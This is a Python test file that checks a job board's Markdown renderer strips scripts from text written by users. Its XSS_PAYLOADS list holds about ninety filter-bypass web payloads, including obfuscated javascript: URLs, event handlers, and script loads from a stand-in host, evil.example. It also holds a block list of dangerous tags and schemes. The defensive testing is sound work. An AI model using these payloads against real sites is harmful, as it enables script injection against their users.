"""Markdown written by users renders to HTML that cannot carry scripts."""

import html
import re
from html.parser import HTMLParser

import pytest

from jobboard.markdown import MAX_SOURCE_LENGTH, render_markdown

FORBIDDEN_ELEMENTS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "svg",
    "math",
    "img",
    "form",
    "input",
    "link",
    "meta",
    "base",
    "frame",
    "frameset",
    "applet",
    "video",
    "audio",
    "source",
    "template",
}
SAFE_ATTRIBUTES = {"href", "title", "rel"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
# Browsers ignore ASCII whitespace and control characters inside a URL scheme.
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")
_START_TAG = re.compile(r"""<[a-z](?:"[^"]*"|'[^']*'|[^'">])*>?""")
_QUOTED = re.compile(r""""[^"]*"|'[^']*'""")


class _Collector(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _tags(output: str):
    parser = _Collector()
    parser.feed(output)
    parser.close()
    return parser.tags


def _url_is_dangerous(value: str) -> bool:
    decoded = value
    # Undo any amount of entity encoding, as a lenient browser might.
    for _ in range(3):
        decoded = html.unescape(decoded)
    compact = _IGNORED_IN_SCHEME.sub("", decoded).lower()
    return compact.startswith(BAD_SCHEMES)


def assert_safe(output: str) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    for tag in _START_TAG.findall(lowered):
        # Quoted attribute values are text: an "onclick=" inside a title is harmless.
        unquoted = _QUOTED.sub('""', tag)
        assert not re.search(r"[\s/\"']on\w+\s*=", unquoted), output
    for tag, attrs in _tags(output):
        assert tag not in FORBIDDEN_ELEMENTS, output
        for name, value in attrs:
            assert not name.startswith("on"), output
            assert name in SAFE_ATTRIBUTES, output
            if name in ("href", "src"):
                assert not _url_is_dangerous(value or ""), output
    for match in re.finditer(r"""(?:href|src)\s*=\s*["']?([^"'\s>]*)""", lowered):
        assert not _url_is_dangerous(match.group(1)), output


XSS_PAYLOADS = [
    # Script tags, in every spelling.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "text before <script>alert(1)</script> text after",
    "# Heading <script>alert(1)</script>",
    "- item <script>alert(1)</script>",
    "> quote <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    # Event handlers on images and other elements.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<a href="https://example.com" onmouseover=alert(1)>x</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    '<audio src=x onerror="alert(1)">',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    # Frames, objects and embeds.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # Style, meta, base and forms.
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    # Dangerous URLs in Markdown links and images.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://example.com "title" onclick="alert(1)")',
    '[x](https://example.com" onclick="alert(1))',
    # Dangerous URLs in raw HTML links.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    # Attribute injection and broken markup.
    '<a href="https://example.com" " onclick="alert(1)">x</a>',
    '<a href="https://example.com"onclick="alert(1)">x</a>',
    "<a title='x' onmouseover=alert(1) href=https://example.com>x</a>",
    '<a href="https://example.com/"/onclick=alert(1)>x</a>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<div><p>unclosed <b onclick=alert(1)>bold",
    "<a href='https://example.com' onclick=alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    '<table><td background="javascript:alert(1)">x</td></table>',
    '<td onmouseover="alert(1)">cell</td>',
    "`<script>alert(1)</script>` and <script>alert(2)</script>",
]


def test_there_are_at_least_fifty_payloads():
    assert len(XSS_PAYLOADS) >= 50
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_without_anything_that_can_run(payload):
    assert_safe(str(render_markdown(payload)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_inside_a_larger_document_renders_without_anything_that_can_run(payload):
    source = f"## Duties\n\n- Cooking\n- Cleaning\n\n{payload}\n\nApply **now**.\n"
    output = str(render_markdown(source))
    assert_safe(output)
    assert output.startswith("<h2>Duties</h2>")


def test_headings_lists_bold_italic_links_and_tables_render():
    source = (
        "## Duties\n\n"
        "- Help residents\n- Prepare meals\n\n"
        "1. Apply\n2. Interview\n\n"
        "**Full-time**, *housing included*.\n\n"
        "[Our site](https://example.com/about)\n\n"
        "| Shift | Hours |\n|---|---|\n| Day | 9-18 |\n"
    )
    output = str(render_markdown(source))
    assert "<h2>Duties</h2>" in output
    assert "<ul>\n<li>Help residents</li>\n<li>Prepare meals</li>\n</ul>" in output
    assert "<ol>\n<li>Apply</li>\n<li>Interview</li>\n</ol>" in output
    assert "<strong>Full-time</strong>" in output
    assert "<em>housing included</em>" in output
    assert 'href="https://example.com/about"' in output
    assert "<table>" in output
    assert "<td>Day</td>" in output


def test_links_get_nofollow_and_noopener():
    output = str(
        render_markdown("[Site](https://example.com) and <a href='https://a.example'>A</a>")
    )
    links = [attrs for tag, attrs in _tags(output) if tag == "a"]
    assert len(links) == 2
    for attrs in links:
        rel = dict(attrs)["rel"].split()
        assert "nofollow" in rel
        assert "noopener" in rel


def test_author_rel_is_replaced_not_trusted():
    output = str(render_markdown('<a href="https://example.com" rel="opener">x</a>'))
    (attrs,) = [attrs for tag, attrs in _tags(output) if tag == "a"]
    rel = dict(attrs)["rel"].split()
    assert "opener" not in rel
    assert {"nofollow", "noopener"} <= set(rel)


@pytest.mark.parametrize(
    "url", ["https://example.com/jobs?a=1&b=2", "http://example.com", "mailto:jobs@example.com"]
)
def test_safe_link_schemes_are_kept(url):
    output = str(render_markdown(f"[link]({url})"))
    (attrs,) = [attrs for tag, attrs in _tags(output) if tag == "a"]
    assert dict(attrs)["href"] == url


@pytest.mark.parametrize("source", ["# Title", "Title\n=====", "<h1>Title</h1>"])
def test_h1_is_demoted_to_h2(source):
    output = str(render_markdown(source))
    assert "<h1" not in output
    assert "<h2>Title</h2>" in output


def test_lower_headings_keep_their_level():
    output = str(render_markdown("## Two\n\n### Three\n\n#### Four"))
    assert "<h2>Two</h2>" in output
    assert "<h3>Three</h3>" in output
    assert "<h4>Four</h4>" in output


def test_source_is_capped_at_max_source_length():
    output = str(render_markdown("a" * (MAX_SOURCE_LENGTH + 5_000) + "TAIL"))
    assert output.count("a") == MAX_SOURCE_LENGTH
    assert "TAIL" not in output


def test_markup_cut_in_half_by_the_cap_stays_safe():
    source = "a" * (MAX_SOURCE_LENGTH - 12) + "<script>alert(1)</script>"
    output = str(render_markdown(source))
    assert_safe(output)
    source = "a" * (MAX_SOURCE_LENGTH - 20) + '\n\n<a href="javascript:alert(1)">x</a>'
    assert_safe(str(render_markdown(source)))


@pytest.mark.parametrize("source", ["", None])
def test_empty_source_renders_empty(source):
    assert str(render_markdown(source)) == ""


def test_code_shows_markup_as_text():
    output = str(render_markdown("`<img src=x onerror=alert(1)>`"))
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in output
    assert_safe(output)


def test_comments_are_removed():
    output = str(render_markdown("before <!-- secret --> after"))
    assert "secret" not in output
    assert "<!--" not in output


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>alert(1)</script>",
        "<p><img src=x></p>",
        '<a href="x" onclick="alert(1)">x</a>',
        '<a title="x"onclick=alert(1)>x</a>',
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href=" JavaScript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<iframe></iframe>",
        "<svg></svg>",
    ],
)
def test_the_safety_check_itself_catches_unsafe_html(unsafe):
    with pytest.raises(AssertionError):
        assert_safe(unsafe)
